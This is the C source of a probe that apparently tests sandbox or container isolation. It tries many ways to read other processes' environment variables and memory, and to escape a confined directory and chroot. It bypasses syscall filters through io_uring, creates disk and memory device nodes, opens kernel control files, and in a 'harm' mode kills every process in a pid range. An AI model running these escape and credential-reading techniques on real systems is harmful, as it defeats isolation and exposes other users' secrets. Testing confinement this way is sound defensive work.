/* Reads and does all that it can reach of other processes and of a directory: what it reads goes to
 * standard output, what it could do to standard error, one line each.
 *
 *   probe DIRECTORY FILE FROM TO [harm]
 *
 * FILE is below DIRECTORY; FROM and TO are process ids. With `harm` it also tries what a program on
 * the machine itself would succeed with: signals, devices, other roots. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void take(int fd) {
    char buffer[65536];
    ssize_t length;
    while ((length = read(fd, buffer, sizeof buffer)) > 0) fwrite(buffer, 1, length, stdout);
    close(fd);
}

static void take_at(int dir, const char *format, ...) {
    char path[4096];
    va_list args;
    va_start(args, format);
    vsnprintf(path, sizeof path, format, args);
    va_end(args);
    char link[4096];
    ssize_t length = readlinkat(dir, path, link, sizeof link);
    if (length > 0) fwrite(link, 1, length, stdout);
    int fd = openat(dir, path, O_RDONLY | O_NONBLOCK);
    if (fd >= 0) take(fd);
}

static void did(long result, const char *what) {
    if (result >= 0) fprintf(stderr, "%s\n", what);
}

/* The descriptors, regions and memory of a process, as far as it lets one. */
static void look_into(int pid, const char *file) {
    static const char *names[] = {"environ", "maps", "smaps", "auxv", "stack", "syscall", "exe",
                                  "cwd", "root", "cgroup/../environ", "task/%d/environ", NULL};
    static const char *ways[] = {"/proc/%d", "/proc/self/../%d", "/proc/self/root/proc/%d",
                                 "/dev/../proc/%d", "/proc/self/task/../../%d", "/proc/0%d",
                                 "//proc/./%d", NULL};
    char base[256], name[256];
    int proc = open("/proc", O_RDONLY | O_DIRECTORY);
    for (int way = 0; ways[way]; way++) {
        snprintf(base, sizeof base, ways[way], pid);
        for (int i = 0; names[i]; i++) {
            snprintf(name, sizeof name, names[i], pid);
            take_at(AT_FDCWD, "%s/%s", base, name);
        }
        take_at(AT_FDCWD, "%s/root%s", base, file);
        take_at(AT_FDCWD, "%s/task/%d/root%s", base, pid, file);
        for (int fd = 0; fd < 12; fd++) take_at(AT_FDCWD, "%s/fd/%d/%s", base, fd, file);
    }
    take_at(proc, "%d/environ", pid);
    take_at(proc, "%d/root%s", pid, file);
    take_at(proc, "../proc/%d/environ", pid);
    take_at(proc, "self/../%d/environ", pid);
    if (proc >= 0 && fchdir(proc) == 0) {
        take_at(AT_FDCWD, "%d/environ", pid);
        take_at(AT_FDCWD, "../proc/%d/environ", pid);
    }
    if (chdir("/proc") == 0) take_at(AT_FDCWD, "%d/environ", pid);
    snprintf(base, sizeof base, "/proc/%d/cwd", pid);
    if (chdir(base) == 0) fprintf(stderr, "chdir cwd\n");
    snprintf(base, sizeof base, "/proc/%d/root", pid);
    if (chdir(base) == 0) fprintf(stderr, "chdir root\n");
    chdir("/");
    close(proc);
    snprintf(base, sizeof base, "/proc/%d/mem", pid);
    did(open(base, O_RDONLY), "open mem");
    did(open(base, O_RDWR), "open mem for writing");
    char byte;
    struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
    long read_result = process_vm_readv(pid, &here, 1, &there, 1, 0);
    did(read_result < 0 && errno != EPERM && errno != ESRCH ? 0 : read_result, "process_vm_readv");
    did(syscall(SYS_kcmp, pid, pid, 0, 0, 0), "kcmp");
    int handle = syscall(SYS_pidfd_open, pid, 0);
    did(handle, "pidfd_open");
    if (handle >= 0) for (int fd = 0; fd < 8; fd++) did(syscall(SYS_pidfd_getfd, handle, fd, 0), "pidfd_getfd");
    did(kill(pid, 0), "kill");
    did(syscall(SYS_tkill, pid, 0), "tkill");
    did(syscall(SYS_tgkill, pid, pid, 0), "tgkill");
    siginfo_t info = {.si_code = SI_QUEUE};
    did(syscall(SYS_rt_sigqueueinfo, pid, 0, &info), "rt_sigqueueinfo");
    did(syscall(SYS_rt_tgsigqueueinfo, pid, pid, 0, &info), "rt_tgsigqueueinfo");
    struct rlimit limit;
    did(syscall(SYS_prlimit64, pid, RLIMIT_NOFILE, NULL, &limit), "prlimit");
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        fprintf(stderr, "ptrace seize\n");
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
        fprintf(stderr, "ptrace attach\n");
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

/* The kernel's own thread opens the file: no filter sees a system call. */
static void by_ring(const char *path) {
    struct io_uring_params params = {0};
    int ring = syscall(SYS_io_uring_setup, 2, &params);
    if (ring < 0) return;
    size_t size = params.sq_off.array + params.sq_entries * sizeof(unsigned);
    if (size < params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe))
        size = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
    char *queue = mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entry =
        mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    memset(entry, 0, sizeof *entry);
    entry->opcode = IORING_OP_OPENAT;
    entry->fd = AT_FDCWD;
    entry->addr = (unsigned long)path;
    ((unsigned *)(queue + params.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(queue + params.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) == 1) {
        struct io_uring_cqe *done = (void *)(queue + params.cq_off.cqes);
        if (done->res >= 0) take(done->res);
    }
    close(ring);
}

static void look_for(const char *file) {
    char up[256] = "";
    for (int i = 0; i < 20; i++) strcat(up, "/..");
    static const char *before[] = {"", "/proc/self/root", "/proc/self/cwd", "/proc/thread-self/root",
                                   "/proc/1/root", "/proc/1/cwd", "/dev/fd/3", NULL};
    int root = open("/", O_RDONLY | O_DIRECTORY);
    for (int i = 0; before[i]; i++) {
        take_at(AT_FDCWD, "%s%s", before[i], file);
        take_at(AT_FDCWD, "%s%s%s", before[i], up, file);
        take_at(root, "%s%s%s", before[i] + (*before[i] == '/'), up, file);
        char target[4096];
        snprintf(target, sizeof target, "%s%s%s", before[i], up, file);
        unlink("/tmp/probe-link");
        symlink(target, "/tmp/probe-link");
        take_at(AT_FDCWD, "/tmp/probe-link");
        take_at(root, "tmp/probe-link");
    }
    static const char *directories[] = {"/proc", "/proc/self", "/proc/self/fd", "/sys", "/sys/class",
                                        "/dev", "/dev/fd", "/proc/self/root", "/proc/self/cwd", NULL};
    for (int i = 0; directories[i]; i++) {
        int dir = open(directories[i], O_PATH | O_DIRECTORY);
        if (dir < 0) continue;
        take_at(dir, "%s%s", up + 1, file);
        if (fchdir(dir) == 0) take_at(AT_FDCWD, "%s%s", up + 1, file);
        if (chdir(directories[i]) == 0) take_at(AT_FDCWD, "%s%s", up + 1, file);
        chdir("/");
        close(dir);
    }
    by_ring(file);
    close(root);
}

static void climb(const char *file) {
    mkdir("/tmp/below", 0755);
    int root = open("/", O_RDONLY | O_DIRECTORY);
    did(chroot("/tmp/below"), "chroot");
    did(unshare(CLONE_NEWUSER), "unshare user");
    did(unshare(CLONE_NEWNS), "unshare mount");
    did(chroot("/tmp/below"), "chroot again");
    fchdir(root);
    for (int i = 0; i < 30; i++) chdir("..");
    take_at(AT_FDCWD, "%s", file + 1);
    did(mount("proc", "/tmp/below", "proc", 0, NULL), "mount proc");
    did(mount("/", "/tmp/below", NULL, MS_BIND | MS_REC, NULL), "mount bind");
    did(syscall(SYS_fsopen, "proc", 0), "fsopen");
    did(syscall(SYS_open_tree, AT_FDCWD, "/", 1), "open_tree");
    did(syscall(SYS_pivot_root, "/", "/tmp/below"), "pivot_root");
    struct { struct file_handle head; unsigned inode, generation; } handle = {{8, 1}, 2, 0};
    did(syscall(SYS_open_by_handle_at, root, &handle, O_RDONLY), "open_by_handle_at");
    struct stat known;
    stat("/", &known);
    did(mknod("/tmp/disk", S_IFBLK | 0600, known.st_dev), "mknod disk");
    did(mknod("/tmp/memory", S_IFCHR | 0600, makedev(1, 1)), "mknod memory");
    did(mknodat(root, "tmp/memory", S_IFCHR | 0600, makedev(1, 11)), "mknodat kmsg");
    did(open("/proc/kcore", O_RDONLY), "open kcore");
    did(open("/proc/sysrq-trigger", O_WRONLY), "open sysrq-trigger");
    did(open("/proc/sys/kernel/core_pattern", O_WRONLY), "open core_pattern");
    did(open("/sys/kernel/uevent_helper", O_WRONLY), "open uevent_helper");
    did(open("/sys/kernel/tracing/trace", O_RDONLY), "open trace");
}

int main(int argc, char **argv) {
    const char *file = argv[2];
    int from = atoi(argv[3]), to = atoi(argv[4]), harm = argc > 5;
    look_for(file);
    look_for(argv[1]);
    for (int pid = from; pid <= to; pid++) {
        if (pid == getpid() || pid == getppid()) continue;
        look_into(pid, file);
        if (harm) {
            kill(pid, SIGKILL);
            if (pid > 1) kill(-pid, SIGKILL); /* -1 would be the shell too */
            syscall(SYS_tgkill, pid, pid, SIGKILL);
        }
    }
    if (harm) {
        climb(file);
    }
    puts("end");
    fflush(stdout);
    return 0;
}
